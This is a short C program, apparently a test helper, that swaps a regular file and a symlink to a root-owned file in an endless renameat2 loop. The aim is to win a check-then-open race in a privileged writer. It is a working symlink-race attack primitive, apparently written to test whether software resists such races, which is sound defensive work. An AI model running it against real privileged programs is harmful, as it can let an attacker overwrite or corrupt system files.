/* The symlink race: swap two names in a directory without end, with
 * renameat2(RENAME_EXCHANGE), until killed. With A a regular file and B a
 * symbolic link to a file of root's, a writer that checks A and then opens
 * it by name may open the link instead. Prints "ready PID". */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

int main(int argc, char **argv)
{
	if (argc != 4) {
		fprintf(stderr, "usage: hostile-swap DIR A B\n");
		return 2;
	}
	int dir = open(argv[1], O_RDONLY | O_DIRECTORY);
	if (dir < 0) {
		perror("hostile-swap: open");
		return 1;
	}
	printf("ready %d\n", (int)getpid());
	fflush(stdout);
	for (;;)
		syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE);
}
